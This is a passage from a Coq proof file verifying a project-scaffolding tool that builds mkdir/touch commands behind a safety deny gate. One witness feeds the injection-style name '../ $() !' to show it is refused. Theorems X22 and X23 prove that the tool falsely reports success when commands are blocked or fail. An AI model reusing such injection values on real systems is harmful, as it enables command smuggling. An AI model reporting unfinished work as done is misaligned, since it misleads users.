Proof. exact (item_commands_file project_path item). Qed.

Lemma file_entry_commands_witness :
  contains "." (last (split_on "/" "src/tools/__init__.py") EmptyString) = true
  /\ exists dir,
       item_commands "/data/projects/demo" "src/tools/__init__.py"
       = [ "mkdir -p '" ++ "/data/projects/demo" ++ dir ++ "'";
           "touch '" ++ "/data/projects/demo" ++ "/" ++ "src/tools/__init__.py"
           ++ "'" ]
       /\ "/data/projects/demo" ++ "/" ++ "src/tools/__init__.py"
          = "/data/projects/demo" ++ dir ++ "/"
            ++ last (split_on "/" "src/tools/__init__.py") EmptyString.
Proof.
  assert (H : contains "."
                (last (split_on "/" "src/tools/__init__.py") EmptyString) = true)
    by reflexivity.
  split; [exact H|].
  exact (file_entry_commands "/data/projects/demo" "src/tools/__init__.py" H).
Defined.

(** X18.  Every command of the creation script is a [mkdir -p] or a
    [touch] whose argument begins with the project path. *)
Theorem script_stays_under_project_path
    (project_path : string) (structure : list string) (cmd : string) :
  In cmd (structure_commands project_path structure) ->
  exists rest,
    cmd = "mkdir -p '" ++ project_path ++ rest
    \/ cmd = "touch '" ++ project_path ++ rest.
Proof.
  induction structure as [|item structure IH]; [intros []|].
  cbn [structure_commands]. intros Hin. apply in_app_or in Hin as [Hin | Hin];
    [|exact (IH Hin)].
  destruct (contains "." (last (split_on "/" item) EmptyString)) eqn:Hdot.
  - destruct (item_commands_file project_path item Hdot) as (dir & Hcmds & _).
    rewrite Hcmds in Hin. destruct Hin as [<- | [<- | []]]; eexists.
    + left. reflexivity.
    + right. reflexivity.
  - unfold item_commands in Hin. rewrite Hdot in Hin.
    destruct Hin as [<- | []]. exists ("/" ++ item ++ "'"). left.
    now rewrite !append_assoc.
Qed.

Lemma script_stays_under_project_path_witness :
  In "touch '/srv/app/README.md'"
     (structure_commands "/srv/app" ["src"; "README.md"])
  /\ exists rest,
       "touch '/srv/app/README.md'" = "mkdir -p '" ++ "/srv/app" ++ rest
       \/ "touch '/srv/app/README.md'" = "touch '" ++ "/srv/app" ++ rest.
Proof.
  assert (H : In "touch '/srv/app/README.md'"
                (structure_commands "/srv/app" ["src"; "README.md"]))
    by (simpl; tauto).
  split; [exact H|].
  exact (script_stays_under_project_path "/srv/app" ["src"; "README.md"] _ H).
Defined.

Lemma kept_char_is_name_char (c : ascii) :
  isalnum c || contains (String c EmptyString) "-_" = name_char c.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma name_char_not_space (c : ascii) : name_char c = true -> isspace c = false.
Proof. destruct c as [[] [] [] [] [] [] [] []]; intros H; easy. Qed.

Lemma filter_chars_ext (f g : ascii -> bool) (s : string) :
  (forall c, f c = g c) -> filter_chars f s = filter_chars g s.
Proof.
  intros H. induction s as [|c s IH]; [reflexivity|].
  cbn [filter_chars]. now rewrite H, IH.
Qed.

Lemma filter_chars_all (f : ascii -> bool) (s : string) :
  all_chars f (filter_chars f s) = true.
Proof.
  induction s as [|c s IH]; [reflexivity|]. cbn [filter_chars].
  destruct (f c) eqn:Hc; [|exact IH]. cbn [all_chars]. now rewrite Hc.
Qed.

Lemma filter_chars_id (f : ascii -> bool) (s : string) :
  all_chars f s = true -> filter_chars f s = s.
Proof.
  induction s as [|c s IH]; [reflexivity|]. cbn [all_chars filter_chars].
  intros H. apply andb_true_iff in H as [Hc Hs]. now rewrite Hc, IH.
Qed.

Lemma filter_chars_none (f : ascii -> bool) (s : string) :
  all_chars (fun c => negb (f c)) s = true -> filter_chars f s = EmptyString.
Proof.
  induction s as [|c s IH]; [reflexivity|]. cbn [all_chars filter_chars].
  intros H. apply andb_true_iff in H as [Hc Hs].
  apply negb_true_iff in Hc. rewrite Hc. auto.
Qed.

(** A string of name characters has no white space to strip. *)
Lemma name_chars_strip (s : string) :
  all_chars name_char s = true -> strip s = s.
Proof.
  intros H. unfold strip.
  assert (Hl : lstrip s = s).
  { destruct s as [|c s]; [reflexivity|]. cbn [all_chars] in H.
    apply andb_true_iff in H as [Hc _]. cbn [lstrip].
    now rewrite (name_char_not_space _ Hc). }
  rewrite Hl. clear Hl. induction s as [|c s IH]; [reflexivity|].
  cbn [all_chars] in H. apply andb_true_iff in H as [Hc Hs].
  cbn [rstrip]. rewrite (IH Hs). destruct s; [|reflexivity].
  now rewrite (name_char_not_space _ Hc).
Qed.

Lemma safe_name_of_filter (project_name : string) :
  safe_name_of project_name = filter_chars name_char project_name.
Proof.
  unfold safe_name_of.
  rewrite (filter_chars_ext _ name_char _ kept_char_is_name_char).
  apply name_chars_strip, filter_chars_all.
Qed.

(** X19.  The safe name is made of letters, digits, [-] and [_] only,
    and a project name that is already made of these is kept as it
    is. *)
Theorem safe_name_of_name_chars (project_name : string) :
  all_chars name_char (safe_name_of project_name) = true
  /\ (all_chars name_char project_name = true ->
      safe_name_of project_name = project_name).
Proof.
  rewrite safe_name_of_filter. split; [apply filter_chars_all|].
  apply filter_chars_id.
Qed.

Lemma safe_name_of_name_chars_witness :
  all_chars name_char "my_app-2" = true
  /\ all_chars name_char (safe_name_of "my_app-2") = true
  /\ safe_name_of "my_app-2" = "my_app-2".
Proof.
  assert (H : all_chars name_char "my_app-2" = true) by reflexivity.
  split; [exact H|]. split.
  - exact (proj1 (safe_name_of_name_chars "my_app-2")).
  - exact (proj2 (safe_name_of_name_chars "my_app-2") H).
Defined.

(** X20.  A project name without any letter, digit, [-] or [_] is
    refused as invalid, whatever the template and the base path, and no
    subprocess is started. *)
Theorem project_name_without_name_chars
    (valves : Valves) (w : World) (project_name template base_path : string) :
  all_chars (fun c => negb (name_char c)) project_name = true ->
  create_project_structure valves w project_name template base_path
  = {| outcome := Returns "Error: Invalid project name."; spawned := [] |}.
Proof.
  intros H. unfold create_project_structure.
  rewrite safe_name_of_filter, (filter_chars_none _ _ H). reflexivity.
Qed.

Lemma project_name_without_name_chars_witness :
  all_chars (fun c => negb (name_char c)) "../ $() !" = true
  /\ create_project_structure default_valves
       (posix_world (Completed "a" EmptyString 0)) "../ $() !" "python" "/tmp"
     = {| outcome := Returns "Error: Invalid project name."; spawned := [] |}.
Proof.
  assert (H : all_chars (fun c => negb (name_char c)) "../ $() !" = true)
    by reflexivity.
  split; [exact H|].
  exact (project_name_without_name_chars default_valves
           (posix_world (Completed "a" EmptyString 0)) "../ $() !" "python"
           "/tmp" H).
Defined.

Lemma lookup_template_none (template : string) :
  ~ In template template_names -> lookup_template template templates = None.
Proof.
  intros H. unfold templates. cbn [lookup_template].
  repeat match goal with
  | |- context [String.eqb ?name template] =>
      destruct (String.eqb_spec name template) as [<- | _];
      [exfalso; apply H; simpl; tauto|]
  end.
  reflexivity.
Qed.

Lemma lookup_template_some (template : string) :
  In template template_names ->
  exists structure, lookup_template template templates = Some structure.
Proof.
  intros H. simpl in H.
  repeat (destruct H as [<- | H]; [eexists; reflexivity|]). destruct H.
Qed.

(** X21.  A template that is not one of the six known names gives the
    error that lists them, and no subprocess is started. *)
Theorem unknown_template_rejected
    (valves : Valves) (w : World) (project_name template base_path : string) :
  safe_name_of project_name <> EmptyString ->
  ~ In template template_names ->
  create_project_structure valves w project_name template base_path
  = {| outcome :=
         Returns ("Error: Unknown template '" ++ template
                  ++ "'. Available: basic, python, web, nodejs, docker, data");
       spawned := [] |}.
Proof.
  intros Hname Ht. unfold create_project_structure.
  destruct (safe_name_of project_name); [contradiction|]. cbn [truthy negb].
  rewrite (lookup_template_none _ Ht). reflexivity.
Qed.

Lemma unknown_template_rejected_witness :
  safe_name_of "demo" <> EmptyString
  /\ ~ In "Python" template_names
  /\ create_project_structure default_valves
       (posix_world (Completed "a" EmptyString 0)) "demo" "Python" "/tmp"
     = {| outcome :=
            Returns "Error: Unknown template 'Python'. Available: basic, python, web, nodejs, docker, data";
          spawned := [] |}.
Proof.
  assert (H1 : safe_name_of "demo" <> EmptyString) by discriminate.
  assert (H2 : ~ In "Python" template_names).
  { simpl. intros H. repeat (destruct H as [H | H]; [discriminate|]). exact H. }
  repeat (split; [assumption|]).
  exact (unknown_template_rejected default_valves
           (posix_world (Completed "a" EmptyString 0)) "demo" "Python" "/tmp"
           H1 H2).
Defined.

Lemma neq_empty_truthy (s : string) : s <> EmptyString -> truthy s = true.
Proof. destruct s; [contradiction | reflexivity]. Qed.

Lemma join_cons_prefix (sep x : string) (l : list string) :
  exists rest, join sep (x :: l) = x ++ rest.
Proof.
  destruct l as [|y l].
  - exists EmptyString. simpl. now rewrite append_empty_r.
  - eexists. apply join_cons2.
Qed.

(** X22.  When the project path mentions a deny pattern, both commands
    of [create_project_structure] are stopped by the gate: no subprocess
    is started and nothing is created, yet the returned text announces
    the project as created, with the blocked error as its structure. *)
Theorem blocked_project_reported_created
    (valves : Valves) (w : World) (project_name template base_path : string) :
  let safe_name := safe_name_of project_name in
  let project_path := base_path ++ "/" ++ safe_name in
  safe_name <> EmptyString ->
  In template template_names ->
  mentions_blocked project_path ->
  create_project_structure valves w project_name template base_path
  = {| outcome :=
         Returns
           ("Project '" ++ safe_name ++ "' created with '" ++ template
            ++ "' template!" ++ LF ++ LF ++ "Location: " ++ project_path
            ++ LF ++ LF ++ "Structure:" ++ LF
            ++ "Error: This command is blocked for safety reasons.");
       spawned := [] |}.
Proof.
  intros safe_name project_path Hname Ht Hm.
  unfold create_project_structure. fold safe_name.
  rewrite (neq_empty_truthy _ Hname). cbn [negb].
  destruct (lookup_template_some _ Ht) as [structure ->].
  fold project_path.
  destruct (join_cons_prefix " && " ("mkdir -p '" ++ project_path ++ "'")
              (structure_commands project_path structure)) as [rest ->].
  apply mentions_blocked_contains in Hm as (blocked & Hin & H).
  rewrite !run_command_blocked; [reflexivity | |];
    apply (mentions_blocked_part blocked project_path _ Hin H); intros _;
    occurs_in_part H.
Qed.

Lemma blocked_project_reported_created_witness :
  let w := posix_world (Completed "a" EmptyString 0) in
  safe_name_of "Reformat Tool" <> EmptyString
  /\ In "basic" template_names
  /\ mentions_blocked ("/data/projects" ++ "/" ++ safe_name_of "Reformat Tool")
  /\ create_project_structure default_valves w "Reformat Tool" "basic"
       "/data/projects"
     = {| outcome :=
            Returns
              ("Project 'ReformatTool' created with 'basic' template!"
               ++ LF ++ LF ++ "Location: /data/projects/ReformatTool"
               ++ LF ++ LF ++ "Structure:" ++ LF
               ++ "Error: This command is blocked for safety reasons.");
          spawned := [] |}.
Proof.
  intros w.
  assert (H1 : safe_name_of "Reformat Tool" <> EmptyString) by discriminate.
  assert (H2 : In "basic" template_names) by (left; reflexivity).
  assert (H3 : mentions_blocked
                 ("/data/projects" ++ "/" ++ safe_name_of "Reformat Tool")).
  { exists "format", "/data/projects/re", "tool".
    split; [simpl; tauto | reflexivity]. }
  repeat (split; [assumption|]).
  exact (blocked_project_reported_created default_valves w "Reformat Tool"
           "basic" "/data/projects" H1 H2 H3).
Defined.

(** A call without a working directory returns: there is nothing to
    expand. *)
Lemma default_call_returns (valves : Valves) (w : World) (command : string) :
  exists text,
    outcome (run_command valves w command EmptyString 0) = Returns text.
Proof. apply run_command_returns. discriminate. Qed.

(** X23.  For a valid name and a known template the returned text opens
    with the line announcing the project as created, whatever the host
    answers to the two commands (errors and timeouts included), and at
    most two subprocesses are started. *)
Theorem project_always_reported_created
    (valves : Valves) (w : World) (project_name template base_path : string) :
  let run :=
    create_project_structure valves w project_name template base_path in
  safe_name_of project_name <> EmptyString ->
  In template template_names ->
  (exists rest,
     outcome run
     = Returns ("Project '" ++ safe_name_of project_name ++ "' created with '"
                ++ template ++ "' template!" ++ rest))
  /\ (List.length (spawned run) <= 2)%nat.
Proof.
  intros run Hname Ht. unfold run, create_project_structure.
  destruct (safe_name_of project_name) as [|c name] eqn:Hsafe; [contradiction|].
  cbn [truthy negb]. destruct (lookup_template_some _ Ht) as [structure ->].
  match goal with
  | |- context [outcome (run_command ?v ?w ?c1 ?d ?t)] =>
      destruct (default_call_returns v w c1) as [text1 ->]
  end.
  match goal with
  | |- context [outcome (run_command ?v ?w ?c2 ?d ?t)] =>
      destruct (default_call_returns v w c2) as [text2 ->]
  end.
  cbn [outcome spawned]. split; [eexists; reflexivity|].
  rewrite length_app.
  match goal with
  | |- (List.length (spawned (run_command ?v ?w ?c1 ?d ?t))
        + List.length (spawned (run_command ?v ?w ?c2 ?d ?t)) <= 2)%nat =>
      destruct (spawned_cases v w c1 d t) as [-> | ->];
      destruct (spawned_cases v w c2 d t) as [-> | ->]
  end; simpl; lia.
Qed.

Lemma project_always_reported_created_witness :
  let w := posix_world RaisePermissionError in
  let run := create_project_structure default_valves w "demo" "docker" "/" in
  safe_name_of "demo" <> EmptyString
  /\ In "docker" template_names
  /\ (exists rest,
        outcome run
        = Returns ("Project '" ++ safe_name_of "demo" ++ "' created with '"
                   ++ "docker" ++ "' template!" ++ rest))
  /\ (List.length (spawned run) <= 2)%nat.
Proof.
  intros w run.
  assert (H1 : safe_name_of "demo" <> EmptyString) by discriminate.
  assert (H2 : In "docker" template_names) by (simpl; tauto).
  repeat (split; [assumption|]).
  exact (project_always_reported_created default_valves w "demo" "docker" "/"
           H1 H2).
Defined.
